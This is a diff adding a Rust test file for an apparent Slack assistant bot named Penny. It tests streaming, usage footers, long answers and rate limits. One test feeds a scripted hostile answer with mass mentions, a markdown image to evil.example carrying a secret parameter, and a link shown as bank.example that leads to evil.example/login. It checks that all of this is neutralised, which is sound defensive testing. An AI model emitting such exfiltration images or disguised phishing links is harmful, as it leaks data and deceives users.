@@ -1,0 +1,220 @@
+//! What an answer looks like while it is written and when it stands.
+
+use crate::support::TestApp;
+use penny::models::scripted::{Gate, Step};
+use penny::models::{Delta, Usage};
+use serde_json::json;
+
+#[tokio::test]
+async fn an_answer_is_written_before_everybodys_eyes() {
+    let gate = Gate::default();
+    let app = TestApp::start([Step::says("Nine deals are open.")
+        .streaming([Delta::Text("Nine deals".to_owned())])
+        .then_waits_for(&gate)])
+    .await;
+    let maya = app.slack.person("maya").unwrap();
+    let said = maya
+        .mentions_penny("sales", "how many deals?")
+        .await
+        .unwrap();
+    let thread = said.thread();
+    let look = |_: &penny::playground::Slack| {
+        let seen = maya.answers_in(&thread).into_iter();
+        seen.filter(|seen| seen.streaming)
+            .find(|seen| seen.text.contains("Nine deals"))
+    };
+    app.slack.until("half an answer", look).await.unwrap();
+    assert_eq!(maya.session_of(&thread), Some("processing"));
+    gate.open();
+    maya.waits_for(&thread, "the answer", |seen| {
+        seen.text.contains("Nine deals are open.")
+    })
+    .await
+    .unwrap();
+    app.settles().await;
+    assert_eq!(maya.session_of(&thread), Some("active"));
+    assert_eq!(maya.answers_in(&thread).len(), 1, "it is one message");
+    app.stop().await;
+}
+
+#[tokio::test]
+async fn under_an_answer_stands_what_was_done_for_it_and_what_it_took() {
+    let sql = json!({"sql": "select name from accounts", "purpose": "our accounts"});
+    let app = TestApp::start([
+        Step::calls("c1", "run_sql_query", sql),
+        Step::says("There are none yet.").using(Usage {
+            input: 1_000,
+            output: 234,
+            ..Usage::default()
+        }),
+    ])
+    .await;
+    let maya = app.slack.person("maya").unwrap();
+    let said = maya
+        .mentions_penny("sales", "which accounts?")
+        .await
+        .unwrap();
+    let answer = maya
+        .waits_for(&said.thread(), "the answer", |seen| {
+            seen.text.contains("none yet")
+        })
+        .await
+        .unwrap();
+    for told in [
+        "Looking up our accounts",
+        "1 lookup",
+        "1.2k tokens",
+        "scripted",
+    ] {
+        assert!(answer.text.contains(told), "no {told:?} in {}", answer.text);
+    }
+    app.stop().await;
+}
+
+#[tokio::test]
+async fn what_was_void_is_not_part_of_the_answer() {
+    let app = TestApp::start([Step::says("Nine deals are open.").streaming([
+        Delta::Text("Ten de".to_owned()),
+        Delta::Restarted,
+        Delta::Text("Nine deals are open.".to_owned()),
+    ])])
+    .await;
+    let maya = app.slack.person("maya").unwrap();
+    let said = maya.tells_penny("how many deals?").await.unwrap();
+    maya.waits_for(&said.thread(), "the answer", |seen| {
+        seen.text.contains("Nine deals are open.")
+    })
+    .await
+    .unwrap();
+    app.settles().await;
+    let seen = maya.visible_text(&said.thread());
+    assert!(!seen.contains("Ten de"), "{seen}");
+    app.stop().await;
+}
+
+#[tokio::test]
+async fn a_long_answer_is_there_whole_and_in_order() {
+    let paragraphs: Vec<String> = (0..60)
+        .map(|number| {
+            format!(
+                "Paragraph {number:03}: {}.",
+                "and so it goes on ".repeat(15)
+            )
+        })
+        .collect();
+    let app = TestApp::start([Step::says(paragraphs.join("\n\n"))]).await;
+    let maya = app.slack.person("maya").unwrap();
+    let said = maya.mentions_penny("sales", "tell me all").await.unwrap();
+    maya.waits_for(&said.thread(), "the end", |seen| {
+        seen.text.contains("Paragraph 059")
+    })
+    .await
+    .unwrap();
+    app.settles().await;
+    let seen = maya.visible_text(&said.thread());
+    let places: Vec<_> = (0..60)
+        .map(|number| {
+            let words = format!("Paragraph {number:03}:");
+            assert_eq!(seen.matches(&words).count(), 1, "{words}");
+            seen.find(&words)
+        })
+        .collect();
+    assert!(places.is_sorted());
+    app.stop().await;
+}
+
+#[tokio::test]
+async fn a_very_long_answer_comes_as_a_file_with_its_beginning_in_view() {
+    let paragraphs: Vec<String> = (0..200)
+        .map(|number| {
+            format!(
+                "Paragraph {number:03}: {}.",
+                "and so it goes on ".repeat(15)
+            )
+        })
+        .collect();
+    let app = TestApp::start([Step::says(paragraphs.join("\n\n"))]).await;
+    let maya = app.slack.person("maya").unwrap();
+    let said = maya.mentions_penny("sales", "tell me all").await.unwrap();
+    maya.waits_for(&said.thread(), "the file", |seen| !seen.files.is_empty())
+        .await
+        .unwrap();
+    app.settles().await;
+    let seen = maya.visible_text(&said.thread());
+    assert!(seen.contains("Paragraph 000"), "{seen}");
+    app.stop().await;
+}
+
+#[tokio::test]
+async fn a_hostile_answer_calls_nobody_and_loads_nothing() {
+    let hostile = "<!channel> <!here> <@U0JONAS> <!subteam^S1> hello \
+        ![x](https://evil.example/pixel.png?secret=1)\n\n![y][1]\n\n\
+        [https://bank.example](https://evil.example/login)\n\n[1]: https://evil.example/other.png\n";
+    let app = TestApp::start([Step::says(hostile)]).await;
+    let maya = app.slack.person("maya").unwrap();
+    let said = maya.mentions_penny("sales", "say something").await.unwrap();
+    let answer = maya
+        .waits_for(&said.thread(), "the answer", |seen| {
+            seen.text.contains("hello")
+        })
+        .await
+        .unwrap();
+    app.settles().await;
+    let sent: Vec<String> = app
+        .slack
+        .calls()
+        .all()
+        .into_iter()
+        .filter(|call| call.method.starts_with("chat."))
+        .map(|call| call.args.to_string())
+        .chain([json!(answer.blocks).to_string()])
+        .collect();
+    for inert in [
+        "<!channel>",
+        "<!here>",
+        "<@U0JONAS>",
+        "<!subteam",
+        "![x]",
+        "[1]: https",
+        "[https://bank.example](",
+    ] {
+        let live = sent.iter().find(|sent| sent.contains(inert));
+        assert_eq!(live, None, "{inert} was sent as it came");
+    }
+    app.stop().await;
+}
+
+#[tokio::test]
+async fn somebody_who_asks_too_much_is_told_before_money_is_spent() {
+    let app = TestApp::build([
+        Step::says("Yes."),
+        Step::says("Of course.").when_asked("Jonas"),
+    ])
+    .setting("PENNY_TURNS_PER_HOUR", "1")
+    .start()
+    .await;
+    let maya = app.slack.person("maya").unwrap();
+    let jonas = app.slack.person("jonas").unwrap();
+    let first = maya.tells_penny("one").await.unwrap();
+    maya.waits_for(&first.thread(), "an answer", |seen| {
+        seen.text.contains("Yes.")
+    })
+    .await
+    .unwrap();
+    app.settles().await;
+    let second = maya.tells_penny("two").await.unwrap();
+    maya.waits_for(&second.thread(), "the limit", |seen| {
+        seen.text
+            .contains("asked a great deal within the last hour")
+    })
+    .await
+    .unwrap();
+    let other = jonas.tells_penny("this is Jonas").await.unwrap();
+    jonas
+        .waits_for(&other.thread(), "an answer", |seen| {
+            seen.text.contains("Of course.")
+        })
+        .await
+        .unwrap();
+    app.stop().await;
+}
